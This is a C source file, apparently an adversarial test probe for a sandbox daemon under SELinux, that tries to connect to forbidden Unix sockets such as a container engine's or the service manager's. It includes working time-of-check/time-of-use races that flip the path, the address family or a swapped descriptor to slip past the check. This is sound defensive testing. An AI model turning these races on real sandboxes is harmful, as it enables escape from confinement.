/*
 * Attack: connect to a Unix socket whose file the domain may not write:
 * the door to another service (a container engine's, the service
 * manager's). SELinux checks, at the connect, `write` on the socket file
 * (`sock_file { write }`, unix_find_bsd's path_permission), after the
 * mode bits.
 *
 * Usage: connect_unix connect PATH: a stream socket connected to PATH;
 * it succeeds if the connect is made, and reports the first line the
 * service sends (the scenario's services name themselves and the peer
 * credentials they see).
 *
 * Usage: connect_unix dgram PATH: a datagram socket connected to PATH;
 * it succeeds if the connect is made.
 *
 * Usage: connect_unix sendto PATH: a datagram sent to PATH without a
 * connect (`sendto` with the address); it succeeds if it is sent.
 *
 * Usage: connect_unix race ALLOWED DENIED: the path in memory flips
 * between ALLOWED and DENIED (a thread writing it) while 3000 stream
 * connects are made from it; it succeeds if one reaches DENIED's service
 * (its line starts with "secret"). The daemon must connect to what it
 * checked, not let the kernel read the path again.
 *
 * Usage: connect_unix family_race DENIED: the address family in memory
 * flips between AF_UNIX and AF_UNSPEC while 3000 stream connects are
 * made to DENIED; it succeeds if one reaches its service. A daemon that
 * read AF_UNSPEC and let the kernel make the connect, which reads the
 * address again, lost.
 *
 * Usage: connect_unix swap_race DENIED: a descriptor number another
 * thread keeps switching (`dup2`) between a Unix stream socket and a UDP
 * socket (which the caller's domain may connect) is connected to DENIED,
 * up to 3000 times; it succeeds if the Unix socket ends connected to its
 * service. A daemon that checked the UDP socket and let the kernel make
 * the connect, which looks the descriptor up again, lost.
 *
 * A PATH starting with '@' is an abstract name (the rest, without a
 * trailing NUL: the address ends with the name). SELinux checks a
 * connect to it as any Unix connect, `connectto` (a stream socket) or
 * `sendto` (a datagram socket) on the socket holding the name, labeled
 * with the domain that made it; there is no file. For a race, ALLOWED
 * and DENIED are names of the same length.
 */
#include "adversarial.h"

#include <pthread.h>
#include <stddef.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>

/* Writes `path` into `a` (an abstract name for "@NAME"); its length. */
static socklen_t address(struct sockaddr_un *a, const char *path) {
    size_t n = strlen(path);
    if (n >= sizeof a->sun_path) verdict(BROKEN, "%s: too long", path);
    a->sun_family = AF_UNIX;
    if (path[0] != '@') {
        strcpy(a->sun_path, path);
        return sizeof *a;
    }
    a->sun_path[0] = 0;
    memcpy(a->sun_path + 1, path + 1, n - 1);
    return offsetof(struct sockaddr_un, sun_path) + n;
}

/* A socket of `type` connected to `path`, or -1 with errno. */
static int connect_to(const char *path, int type) {
    int fd = socket(AF_UNIX, type | SOCK_CLOEXEC, 0);
    if (fd < 0) verdict(BROKEN, "socket(AF_UNIX): %s", strerror(errno));
    struct sockaddr_un a;
    socklen_t len = address(&a, path);
    if (connect(fd, (struct sockaddr *)&a, len) != 0) {
        int err = errno;
        close(fd);
        errno = err;
        return -1;
    }
    return fd;
}

/* The first line the service sends on `fd` (within 5 seconds). */
static void first_line(int fd, char *buf, size_t size) {
    struct timeval tv = {.tv_sec = 5};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    ssize_t n = read(fd, buf, size - 1);
    buf[n > 0 ? n : 0] = 0;
    buf[strcspn(buf, "\n")] = 0;
}

static int connect_stream(const char *path) {
    int fd = connect_to(path, SOCK_STREAM);
    if (fd < 0) FAILED(errno, "connecting to %s", path);
    char line[128];
    first_line(fd, line, sizeof line);
    verdict(SUCCEEDED, "connected to %s, which says: %s", path, line);
}

static int connect_dgram(const char *path) {
    if (connect_to(path, SOCK_DGRAM) < 0) FAILED(errno, "connecting a datagram socket to %s", path);
    verdict(SUCCEEDED, "connected a datagram socket to %s", path);
}

static int send_to(const char *path) {
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0) verdict(BROKEN, "socket(AF_UNIX): %s", strerror(errno));
    struct sockaddr_un a;
    socklen_t len = address(&a, path);
    if (sendto(fd, "probe", 5, 0, (struct sockaddr *)&a, len) != 5) FAILED(errno, "sending to %s", path);
    verdict(SUCCEEDED, "sent a datagram to %s", path);
}

static struct sockaddr_un shared;
static const char *flips[2];
static volatile int racing = 1;

static void *flip(void *arg) {
    (void)arg;
    struct sockaddr_un a[2];
    address(&a[0], flips[0]);
    address(&a[1], flips[1]);
    for (unsigned i = 0; racing; i++) memcpy(shared.sun_path, a[i & 1].sun_path, sizeof shared.sun_path);
    return NULL;
}

static int race(const char *allowed, const char *denied) {
    if (strlen(allowed) != strlen(denied) && (allowed[0] == '@' || denied[0] == '@'))
        verdict(BROKEN, "abstract names of different lengths");
    flips[0] = allowed;
    flips[1] = denied;
    socklen_t len = address(&shared, allowed);
    pthread_t t;
    if (pthread_create(&t, NULL, flip, NULL) != 0) verdict(BROKEN, "pthread_create");
    int refused = 0, allowed_again = 0;
    time_t end = time(NULL) + 20;
    for (int i = 0; i < 3000 && time(NULL) < end; i++) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) verdict(BROKEN, "socket(AF_UNIX): %s", strerror(errno));
        if (connect(fd, (struct sockaddr *)&shared, len) == 0) {
            char line[128];
            first_line(fd, line, sizeof line);
            if (!strncmp(line, "secret", 6)) {
                racing = 0;
                verdict(SUCCEEDED, "reached %s after %d calls: %s", denied, i + 1, line);
            }
            allowed_again++;
        } else if (is_denial(errno)) {
            refused++;
        }
        close(fd);
    }
    racing = 0;
    pthread_join(t, NULL);
    if (!refused) verdict(BROKEN, "no connect was refused (%d to %s)", allowed_again, allowed);
    verdict(BLOCKED, "never reached %s: %d refused, %d to %s", denied, refused, allowed_again, allowed);
}

static volatile sa_family_t *family_at;

static void *flip_family(void *arg) {
    (void)arg;
    for (unsigned i = 0; racing; i++) *family_at = (i & 1) ? AF_UNSPEC : AF_UNIX;
    return NULL;
}

/* Whether `fd` is connected to the denied service: its first line. */
static int reached_secret(int fd) {
    struct sockaddr_un peer;
    socklen_t len = sizeof peer;
    if (getpeername(fd, (struct sockaddr *)&peer, &len) != 0) return 0;
    char line[128];
    first_line(fd, line, sizeof line);
    return !strncmp(line, "secret", 6);
}

static int family_race(const char *denied) {
    socklen_t len = address(&shared, denied);
    family_at = &shared.sun_family;
    pthread_t t;
    if (pthread_create(&t, NULL, flip_family, NULL) != 0) verdict(BROKEN, "pthread_create");
    int refused = 0, invalid = 0;
    time_t end = time(NULL) + 20;
    for (int i = 0; i < 3000 && time(NULL) < end; i++) {
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        if (fd < 0) verdict(BROKEN, "socket(AF_UNIX): %s", strerror(errno));
        int done = connect(fd, (struct sockaddr *)&shared, len), err = errno;
        if (reached_secret(fd)) {
            racing = 0;
            verdict(SUCCEEDED, "reached %s after %d calls", denied, i + 1);
        }
        if (done != 0 && err == EINVAL) invalid++;
        else if (done != 0 && is_denial(err)) refused++;
        close(fd);
    }
    racing = 0;
    pthread_join(t, NULL);
    if (!refused || !invalid) verdict(BROKEN, "the flip was not exercised: %d refused, %d invalid", refused, invalid);
    verdict(BLOCKED, "never reached %s: %d refused, %d with AF_UNSPEC", denied, refused, invalid);
}

#define SWAP_FD 100
static int swap_unix = -1, swap_udp = -1;

static void *swapper(void *arg) {
    (void)arg;
    for (unsigned i = 0; racing; i++) dup2((i & 1) ? swap_udp : swap_unix, SWAP_FD);
    return NULL;
}

static int swap_race(const char *denied) {
    struct sockaddr_un a;
    socklen_t len = address(&a, denied);
    swap_unix = socket(AF_UNIX, SOCK_STREAM, 0);
    swap_udp = socket(AF_INET, SOCK_DGRAM, 0);
    if (swap_unix < 0 || swap_udp < 0) verdict(BROKEN, "socket: %s", strerror(errno));
    if (dup2(swap_unix, SWAP_FD) != SWAP_FD) verdict(BROKEN, "dup2: %s", strerror(errno));
    pthread_t t;
    if (pthread_create(&t, NULL, swapper, NULL) != 0) verdict(BROKEN, "pthread_create");
    int refused = 0, as_udp = 0;
    time_t end = time(NULL) + 20;
    for (int i = 0; i < 3000 && time(NULL) < end; i++) {
        int done = connect(SWAP_FD, (struct sockaddr *)&a, len), err = errno;
        if (reached_secret(swap_unix)) {
            racing = 0;
            verdict(SUCCEEDED, "a Unix socket reached %s after %d calls", denied, i + 1);
        }
        if (done != 0 && (err == EAFNOSUPPORT || err == EINVAL)) as_udp++;
        else if (done != 0 && is_denial(err)) refused++;
    }
    racing = 0;
    pthread_join(t, NULL);
    if (!refused || !as_udp)
        verdict(BROKEN, "the switch was not exercised: %d refused, %d on the UDP socket", refused, as_udp);
    verdict(BLOCKED, "never reached %s: %d refused, %d on the UDP socket", denied, refused, as_udp);
}

int main(int argc, char **argv) {
    if (argc == 3 && !strcmp(argv[1], "connect")) return connect_stream(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "dgram")) return connect_dgram(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "sendto")) return send_to(argv[2]);
    if (argc == 4 && !strcmp(argv[1], "race")) return race(argv[2], argv[3]);
    if (argc == 3 && !strcmp(argv[1], "family_race")) return family_race(argv[2]);
    if (argc == 3 && !strcmp(argv[1], "swap_race")) return swap_race(argv[2]);
    fprintf(stderr, "usage: connect_unix connect PATH | dgram PATH | sendto PATH | race ALLOWED DENIED | "
                    "family_race DENIED | swap_race DENIED\n");
    return BROKEN;
}
